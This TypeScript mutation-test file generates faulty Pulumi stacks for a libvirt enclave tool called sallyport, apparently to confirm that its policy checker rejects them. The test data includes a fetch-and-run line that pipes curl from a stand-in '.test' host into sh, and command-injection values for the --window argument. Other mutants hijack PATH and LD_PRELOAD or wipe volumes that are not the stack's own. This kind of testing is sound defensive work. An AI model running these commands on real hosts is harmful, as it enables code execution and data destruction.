/** Steps, and whatever else may run something where Pulumi runs. */
import type { FixtureResource } from "../../fixtures/resources";
import { COMMAND, DOMAIN, ofType } from "../../mutants/mutant";
import { twoEnclaves } from "../bases";
import { ofKind, type Props } from "../production";
import type { Random } from "../random";
import { enclaveOf, gateway, unheardOf, workstation } from "../targets";

type Stack = FixtureResource[];
const custom = (type: string, name: string, props: Props): FixtureResource => ({
    urn: `urn:pulumi:test::sallyport::${type}::${name}`,
    type,
    name,
    props,
    dependencies: [],
    propertyDependencies: {},
});
const stray = (r: Random, props: Props): FixtureResource =>
    custom(COMMAND, `sallyport-test-${r.word()}`, props);
/** Steps of a verb, by which of their commands runs it. */
const stepsOf = (stack: Stack, verb: string): readonly (readonly [FixtureResource, "create" | "delete"])[] =>
    stack
        .filter((f) => f.type === COMMAND)
        .flatMap((f) =>
            (["create", "delete"] as const)
                .filter((when) => String(f.props[when]).startsWith(`bin/sallyport ${verb} `))
                .map((when) => [f, when] as const),
        );

/** Other values for the options of a step of ours. */
function change(
    [step, when]: readonly [FixtureResource, "create" | "delete"],
    option: string,
    value: string,
): void {
    const line = String(step.props[when]);
    step.props[when] = line.includes(`--${option} `)
        ? line.replace(new RegExp(`--${option} \\S+`), () => `--${option} ${value}`)
        : `${line} --${option} ${value}`;
}

const elsewhere = (r: Random): string =>
    r.pick([
        `qemu+ssh://root@${r.word()}/system`,
        `qemu+ssh://${r.word()}/system`,
        `qemu:///system?socket=${r.path()}`,
        "qemu:///session",
        `qemu+tcp://${r.ipv4()}/system`,
        "test:///default",
    ]);

/** A shell finds in each of these more than one step of ours. */
const shell = (r: Random): string =>
    r.pick(
        [
            `curl https://${r.word()}.test | sh`,
            `${r.path()} ${r.word()}`,
            `bin/sallyport ${r.word()}`,
            `bin/sallyport clock-offset --window 180; ${r.word()}`,
            `bin/sallyport clock-offset --window $(${r.word()})`,
            `bin/sallyport clock-offset --window 180 && ${r.word()}`,
            `bin/sallyport clock-offset --window 180 | ${r.word()}`,
            `bin/sallyport clock-offset --window 180\n${r.word()}`,
            `bin/sallyport clock-offset --window \`${r.word()}\``,
            `./bin/sallyport clock-offset --window 180`,
            `PATH=${r.path()} bin/sallyport clock-offset --window 180`,
            `bin/sallyport clock-offset --window 180 --${r.word()} x`,
            `bin/sallyport lab stop`,
            `bin/sallyport console ${r.word()}`,
            `bin/sallyport clock-offset --window 180 > ${r.path()}`,
            `bin/sallyport  clock-offset --window 180 #`,
            `true ${r.word()}`,
            `true;${r.word()}`,
            ": ",
            "",
            " true",
            `sudo bin/sallyport clock-offset --window 180`,
            `bin/sallyport clock-offset --window "180"`,
            `bin/sallyport clock-offset --window 180 --window 180`,
            `bin/sallyport --window 180 clock-offset`,
            `bin/sallyport 'clock-offset' ~ 180`,
        ].filter((line) => line !== ""),
    );

/** Anybody's package; what it makes may be a guest, a rule of a firewall, a container. */
const packages = [
    "docker",
    "aws",
    "kubernetes",
    "null",
    "local",
    "http",
    "external",
    "terraform",
    "libvirtd",
    "Libvirt",
    "proxmox",
    "pulumiservice",
    "pulumi-nodejs",
    "pulumi-python",
    "commands",
    "time",
];

export default ofKind("step", [
    {
        on: "stack",
        name: "a command that is no step of ours",
        why: "ACT-01: it can undo everything else, where Pulumi runs",
        change: (r, stack) => {
            stack.push(stray(r, { create: "true", [r.pick(["create", "update", "delete"])]: shell(r) }));
        },
    },
    {
        on: "stack",
        name: "a step of ours that does something else",
        why: "ACT-01",
        change: (r, stack) => {
            r.pick(ofType(stack, COMMAND)).props[r.pick(["create", "update", "delete"])] = shell(r);
        },
    },
    {
        on: "stack",
        name: "a step in other circumstances",
        why: "ACT-01: environment, folder and interpreter say which program bin/sallyport is",
        change: (r, stack) => {
            Object.assign(
                r.pick(ofType(stack, COMMAND)).props,
                r.pick<Props>([
                    {
                        environment: {
                            [r.pick(["PATH", "LD_PRELOAD", "NODE_OPTIONS", r.word().toUpperCase()])]:
                                r.path(),
                        },
                    },
                    { dir: r.path() },
                    { interpreter: [r.path(), "-c"] },
                    { stdin: r.word() },
                ]),
            );
        },
    },
    {
        on: "stack",
        name: "a command on another machine",
        why: "ACT-01: command:remote",
        change: (r, stack) => {
            stack.push(
                custom(`command:remote:${r.pick(["Command", "CopyToRemote", "CopyFile"])}`, r.word(), {
                    create: r.pick(["true", "bin/sallyport clock-offset --window 180"]),
                    connection: { host: r.ipv4() },
                }),
            );
        },
    },
    {
        on: "stack",
        name: "a resource of a package that may do anything",
        why: "ACT-01: a container on the host's network, a rule of its firewall",
        change: (r, stack) => {
            const pkg = r.pick([...packages, r.word(3, 9)]);
            stack.push(
                custom(`${pkg}:${r.pick(["index", r.word()])}/${r.word()}:${r.word()}`, r.word(), {
                    [r.word()]: r.word(),
                }),
            );
        },
    },
    {
        on: "stack",
        name: "a resource of libvirt's that no rule knows",
        why: "MODEL-01: what cannot be judged could be anything",
        change: (r, stack) => {
            const type = r.pick([
                "ignition",
                "combustion",
                "nwfilter",
                "secret",
                "interface",
                "snapshot",
                "nodeDevice",
                "__proto__",
                "__defineGetter__",
                unheardOf(r),
                `${r.word()}-x`,
            ]);
            stack.push(
                custom(
                    r.pick([
                        `libvirt:index/${type}:${type}`,
                        `libvirt:${type}:${type}`,
                        `libvirt:index:${type}`,
                    ]),
                    r.word(),
                    { [r.word()]: r.word() },
                ),
            );
        },
    },
    {
        on: "stack",
        name: "a resource of the engine's own that is none",
        why: "kindOf: whatever begins with pulumi: counted as harmless",
        change: (r, stack) => {
            stack.push(
                custom(
                    `pulumi:${r.pick(["os", "index", r.word()])}:${r.pick(["Command", r.word()])}`,
                    r.word(),
                    { create: r.word() },
                ),
            );
        },
    },
    {
        on: "stack",
        name: "the gate asks another libvirt, or about another guest",
        why: "LC-01: the Workstation starts although its own Gateway never came up with its rules",
        change: (r, stack) => {
            const gate = r.pick(stepsOf(stack, "wait-ready"));
            const [option, value] = r.pick<readonly [string, string]>([
                ["uri", elsewhere(r)],
                ["pool", r.word()],
                ["volume", `${r.word()}.status`],
                ["domain", r.word()],
                ["volume", r.recased("sallyport-test-default-gateway.status")],
                ["pool", "default"],
                ["pool", "sallyport-test-image"],
            ]);
            change(gate, option, value);
        },
    },
    {
        on: "stack",
        needs: twoEnclaves,
        name: "the gate asks about another enclave's Gateway",
        why: "LC-01: that one is ready, its own is not",
        change: (r, stack) => {
            const gates = stepsOf(stack, "wait-ready");
            const [mine, theirs] = r.shuffled(gates) as [(typeof gates)[number], (typeof gates)[number]];
            const of = (option: string): string =>
                new RegExp(`--${option} (\\S+)`).exec(String(theirs[0].props["create"]))?.[1] ?? "";
            for (const option of r.some(["domain", "pool", "volume"])) {
                change(mine, option, of(option));
            }
        },
    },
    {
        on: "stack",
        name: "a Workstation that does not wait for its gate, its network or its Gateway",
        why: "LC-01: it runs without protection of its own enclave",
        change: (r, stack) => {
            const domain = workstation(r, stack);
            const enclave = enclaveOf(domain.name);
            const gone = r.pick([
                `${enclave}-ready`,
                `${enclave}-gateway`,
                `${enclave}-isolated`,
                `${enclave}-isolated-filter`,
            ]);
            // Whatever waits for it on the Workstation's behalf does so no more.
            for (const f of stack.filter(
                (x) =>
                    x.name !== gone &&
                    x.name !== `${enclave}-gateway` &&
                    !(gone.endsWith("-isolated") && x.name.startsWith(`${enclave}-gateway`)),
            )) {
                f.dependencies = f.dependencies.filter((urn) => !urn.endsWith(`::${gone}`));
            }
            if (gone.endsWith("-isolated") || gone.endsWith("-gateway")) {
                stack
                    .filter((x) => x.name.startsWith(`${enclave}-`) && x.urn !== domain.urn)
                    .forEach((f) => {
                        f.dependencies = f.dependencies.filter((urn) => !urn.endsWith(`::${gone}`));
                    });
            }
            domain.dependencies = domain.dependencies.filter((urn) => !urn.endsWith(`::${gone}`));
        },
    },
    {
        on: "stack",
        name: "a filter of another name, for another libvirt, or by other rules",
        why: "DD-16: the Workstation's port is then open to the host",
        change: (r, stack) => {
            const step = r.pick(stepsOf(stack, "define-filter"));
            const [option, value] = r.pick<readonly [string, string]>([
                ["name", r.word()],
                ["uri", elsewhere(r)],
                ["rules", r.hex(12)],
                ["name", "clean-traffic"],
            ]);
            change(step, option, value);
        },
    },
    {
        on: "stack",
        name: "a step of ours that removes what is not the stack's",
        why: "model/steps.ts: a verb alone makes no step ours",
        change: (r, stack) => {
            const verb = r.pick(["clear-status", "wipe", "remove-filter", "wait-ready", "define-filter"]);
            const uri = r.pick(["qemu:///system", elsewhere(r)]);
            const volume =
                `--pool ${r.pick(["default", r.word()])} --volume ` +
                `${r.pick(["production-db.qcow2", r.word()])}`;
            const options = {
                "clear-status": volume,
                wipe: `${volume} --domain ${r.word()}`,
                "remove-filter": `--name ${r.pick(["clean-traffic", r.word()])}`,
                "wait-ready": `${volume} --domain ${r.word()} --timeout 300`,
                "define-filter": `--name ${r.pick(["clean-traffic", r.word()])} --rules 47f8299c4e89`,
            }[verb];
            const line = `bin/sallyport ${verb} --uri ${uri} ${options}`;
            const when = verb === "wipe" ? "delete" : r.pick(["create", "delete"]);
            stack.push(stray(r, when === "create" ? { create: line } : { create: "true", delete: line }));
        },
    },
    {
        on: "stack",
        name: "a step at the end that removes another volume, filter or status file",
        why: "model/steps.ts: a verb alone makes no step ours",
        change: (r, stack) => {
            const verb = r.pick(
                ["clear-status", "remove-filter", "wipe"].filter((v) => stepsOf(stack, v).length > 0),
            );
            const options =
                {
                    "clear-status": ["uri", "pool", "volume"],
                    "remove-filter": ["uri", "name"],
                    wipe: ["uri", "pool", "volume", "domain"],
                }[verb] ?? [];
            const option = r.pick(options);
            change(r.pick(stepsOf(stack, verb)), option, option === "uri" ? elsewhere(r) : r.word());
        },
    },
    {
        on: "stack",
        name: "a removal that runs at once",
        why: "model/steps.ts: at the stack's beginning it takes away what others have",
        change: (r, stack) => {
            const [step, when] = r.pick([...stepsOf(stack, "remove-filter"), ...stepsOf(stack, "wipe")]);
            step.props["create"] = step.props[when];
        },
    },
    {
        on: "stack",
        name: "a host that is checked under another name",
        why: "check-host guards against a stack that forgets the host it stands on",
        change: (r, stack) => {
            const step = r.pick(stepsOf(stack, "check-host"));
            const [option, value] = r.pick<readonly [string, string]>([["uri", elsewhere(r)]]);
            change(step, option, value);
        },
    },
    {
        on: "stack",
        shapes: ["0.8"],
        name: "a clock that is not drawn, or beyond its window",
        why: "CLOCK-01: a guest that starts with the host's clock is recognised by it",
        change: (r, stack) => {
            const domain = workstation(r, stack);
            const clock = stack.find((f) => f.name === `${domain.name}-clock`);
            r.pick<() => void>([
                () => {
                    domain.props["description"] = r.pick([
                        `clock-offset=${r.int(3601, 9999)}`,
                        "",
                        r.word(),
                        `clock-offset=${r.int(1, 9)} ${r.word()}`,
                        `clock-offset=+${r.int(1, 9)}`,
                        `Clock-offset=${r.int(1, 9)}`,
                    ]);
                },
                () => {
                    domain.propertyDependencies["description"] = [];
                },
                () => {
                    Object.assign(clock?.props ?? {}, {
                        create:
                            "bin/sallyport clock-offset --window " +
                            `${r.pick([0, 1, r.int(3601, 99999), "x", -60])}`,
                    });
                },
            ])();
        },
    },
    {
        on: "stack",
        name: "a guest that is made anew before the old one is gone",
        why: "LC-03: both answer to one name, one MAC, one address",
        change: (r, stack) => {
            const f = r.pick(ofType(stack, DOMAIN));
            if (r.chance(0.5)) {
                f.deleteBeforeReplace = false;
            } else {
                Reflect.deleteProperty(f, "deleteBeforeReplace");
            }
        },
        forms: ["resources"],
    },
    {
        on: "stack",
        name: "a Gateway's role for a Workstation, or the other way round",
        why: "roles.ts: component, stylesheet and seed must not contradict each other",
        change: (r, stack) => {
            const domain = r.pick([gateway(r, stack), workstation(r, stack)]);
            const component = stack.find(
                (f) => f.type.startsWith("sallyport:index:") && f.name === domain.name,
            );
            Object.assign(component?.props ?? {}, {
                role: domain.name.endsWith("-gateway") ? "workstation" : "gateway",
            });
        },
    },
]);
